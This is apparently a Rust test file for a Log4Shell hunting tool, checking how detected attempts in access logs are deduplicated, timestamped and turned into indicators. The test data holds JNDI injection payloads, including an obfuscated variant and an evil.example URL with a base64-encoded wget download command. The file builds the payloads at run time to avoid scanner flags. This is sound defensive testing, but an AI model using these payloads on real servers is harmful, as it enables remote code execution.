//! The [`SightingCollector`] over the attempts the hunter reports: deduplicated indicators with
//! log times, days and techniques, implausible times, and the upload time when a log has none.

mod common;

use quell_hunt::{HuntConfig, Hunter, SightingCollector};
use quell_model::hunt::Attempt;
use quell_model::indicators::{IndicatorKind, TimeSource, Tlp, UPLOAD_FORMAT};

fn attempts(lines: &[&str]) -> Vec<Attempt> {
    common::attempts(&Hunter::new(HuntConfig::new()), "access.log", lines)
}

/// `${jndi:...}` built at run time, so that no scanner flags this source file.
fn payload(body: &str) -> String {
    format!("${{{}:{body}}}", "jndi")
}

#[test]
fn deduplicates_with_log_times_days_and_techniques() {
    let p1 = payload("ldap://198.51.100.7:1389/a");
    let p2 = format!("${{${{{}:j}}ndi:ldap://198.51.100.7:1389/a}}", "lower");
    let l1 = format!(r#"203.0.113.9 - - [10/Dec/2021:08:00:00 +0000] "GET /?x={p1} HTTP/1.1" 200 1 "-" "-""#);
    let l2 = format!(r#"203.0.113.9 - - [11/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "{p2}""#);
    let l3 = format!(r#"203.0.113.10 - - [11/Dec/2021:11:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "{p1}""#);
    let found = attempts(&[&l1, &l2, &l3]);
    assert_eq!(found.len(), 3, "{found:?}");
    let mut c = SightingCollector::new(None);
    for a in &found {
        c.add(a);
    }
    let up = c.finish(1_700_000_000, "web-1", "quell test", Tlp::Green);
    assert_eq!(up.format, UPLOAD_FORMAT);
    assert!(up.lines.is_empty());
    let get = |k: IndicatorKind, v: &str| {
        up.indicators.iter().find(|i| i.kind == k && i.value == v).unwrap_or_else(|| panic!("{k:?} {v}"))
    };
    let host = get(IndicatorKind::CallbackHost, "198.51.100.7");
    assert_eq!(host.count, 3);
    assert_eq!((host.first_seen.as_str(), host.last_seen.as_str()), ("2021-12-10T08:00:00Z", "2021-12-11T11:00:00Z"));
    assert_eq!(host.time_source, TimeSource::Log);
    assert!(host.techniques.iter().any(|t| t == "lower"), "{:?}", host.techniques);
    assert_eq!(host.days.get("2021-12-10"), Some(&1));
    assert_eq!(host.days.get("2021-12-11"), Some(&2));
    assert_eq!(get(IndicatorKind::PayloadUrl, "ldap://198.51.100.7:1389/a").count, 3);
    assert_eq!(get(IndicatorKind::SourceAddress, "203.0.113.9").count, 2);
    assert_eq!(get(IndicatorKind::SourceAddress, "203.0.113.10").count, 1);
}

#[test]
fn implausible_log_times_count_as_unreadable() {
    let p = payload("ldap://198.51.100.7/a");
    let old = format!(r#"203.0.113.9 - - [10/Dec/1999:08:00:00 +0000] "GET /?x={p} HTTP/1.1" 200 1 "-" "-""#);
    let future = format!(r#"203.0.113.9 - - [10/Dec/2999:08:00:00 +0000] "GET /?x={p} HTTP/1.1" 200 1 "-" "-""#);
    let found = attempts(&[&old, &future]);
    assert_eq!(found.len(), 2);
    let mut c = SightingCollector::new(None);
    for a in &found {
        c.add(a);
    }
    let up = c.finish(1_700_000_000, "h", "t", Tlp::Amber);
    let host = up.indicators.iter().find(|i| i.kind == IndicatorKind::CallbackHost).expect("host");
    assert_eq!((host.time_source, host.first_seen.as_str()), (TimeSource::Upload, "2023-11-14T22:13:20Z"));
    assert_eq!(host.days.values().sum::<u64>(), 2);
}

#[test]
fn without_log_times_the_upload_time_is_used_and_lines_only_when_asked() {
    let line =
        format!("user agent {}", payload("ldap://evil.example/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi41L3g="));
    let found = attempts(&[&line]);
    assert_eq!(found.len(), 1);
    let mut c = SightingCollector::new(Some(1));
    c.add(&found[0]);
    c.add(&found[0]);
    assert_eq!(c.lines_dropped(), 1);
    let up = c.finish(86_400 * 3 + 5, "h", "t", Tlp::Amber);
    let host = up.indicators.iter().find(|i| i.kind == IndicatorKind::CallbackHost).expect("host");
    assert_eq!(host.time_source, TimeSource::Upload);
    assert_eq!(host.first_seen, "1970-01-04T00:00:05Z");
    assert_eq!(host.days.get("1970-01-04"), Some(&2));
    let command = up.indicators.iter().find(|i| i.kind == IndicatorKind::CommandHost).expect("command host");
    assert_eq!(command.value, "192.0.2.5");
    assert_eq!(up.lines.len(), 1);
}
